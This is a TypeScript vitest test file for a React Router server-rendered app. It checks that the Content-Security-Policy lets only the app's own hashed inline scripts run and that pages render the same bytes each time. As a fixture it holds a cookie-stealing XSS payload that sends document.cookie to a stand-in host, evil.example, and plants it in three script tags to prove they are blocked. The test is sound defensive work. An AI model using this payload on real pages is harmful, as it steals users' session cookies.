import { hash } from 'node:crypto'
import { createElement as h } from 'react'
import {
  createRequestHandler,
  Outlet,
  RouterContextProvider,
  Scripts,
  ScrollRestoration,
  type ServerBuild,
} from 'react-router'
import { expect, test } from 'vitest'
import { createLog } from '#platform/observe/log.ts'
import { requestScope } from '#platform/observe/request-scope.ts'
import * as entry from './entry.server.tsx'
import { clientContext, type Services, servicesContext } from './request/context.ts'
import { InlineScript } from './ui/inline-script.tsx'

const STOLEN = 'fetch("//evil.example/" + document.cookie)'
const OURS = 'greet()'

/** A page that has a hole: what somebody wrote became a script of it. */
function PageWithHole() {
  const planted = [{}, { nonce: 'guess' }, { type: 'module' }].map((attributes, key) =>
    h('script', { ...attributes, key }, STOLEN),
  )
  return h('main', null, h(InlineScript, { text: OURS }), ...planted)
}

function Layout() {
  return h('html', null, h('body', null, h(Outlet), h(ScrollRestoration), h(Scripts)))
}

const routes = { root: { id: 'root', path: '', module: { default: Layout } } }
const BUILD = {
  entry: { module: entry },
  routes: { ...routes, page: { id: 'page', parentId: 'root', index: true, module: { default: PageWithHole } } },
  assets: {
    entry: { module: '/entry.js', imports: [] },
    routes: {
      root: { id: 'root', path: '', module: '/root.js', imports: [] },
      page: { id: 'page', parentId: 'root', index: true, module: '/page.js', imports: [] },
    },
    url: '/manifest.js',
    version: '1',
  },
  publicPath: '/',
  assetsBuildDirectory: '',
  basename: '/',
  future: {},
  ssr: true,
  isSpaMode: false,
  prerender: [],
  routeDiscovery: { mode: 'initial' },
} as unknown as ServerBuild

async function openPage(): Promise<{ html: string; allowed: string[] }> {
  const context = new RouterContextProvider()
  const services = { config: { imageUpload: {} }, requests: requestScope, log: createLog('silent') }
  context.set(servicesContext, services as Services)
  context.set(clientContext, { address: undefined, userAgent: '', token: undefined, device: undefined, places: [] })
  const answer = await createRequestHandler(BUILD, 'production')(new Request('http://localhost:3000/'), context)
  const policy = answer.headers.get('content-security-policy') ?? ''
  const [, allowed = ''] = /script-src ([^;]*)/.exec(policy) ?? []
  return { html: await answer.text(), allowed: allowed.split(' ') }
}

test('a script that came into a page with its content may not run, and the page’s own may', async () => {
  const { html, allowed } = await openPage()
  const inline = [...html.matchAll(/<script([^>]*)>(.+?)<\/script>/gs)].map(([, , text = '']) => text)
  const mayRun = inline.filter((text) => allowed.includes(`'sha256-${hash('sha256', text, 'base64')}'`))
  expect(inline.filter((text) => text === STOLEN)).toHaveLength(3)
  expect(mayRun).toEqual(inline.filter((text) => text !== STOLEN))
  expect(mayRun).toContain(OURS)
  expect(mayRun.length).toBeGreaterThan(3)
  expect(allowed.filter((source) => !source.startsWith("'sha256-"))).toEqual(["'self'"])
})

test('a page is the same to the byte each time, so that it can be cached', async () => {
  expect(await openPage()).toEqual(await openPage())
})
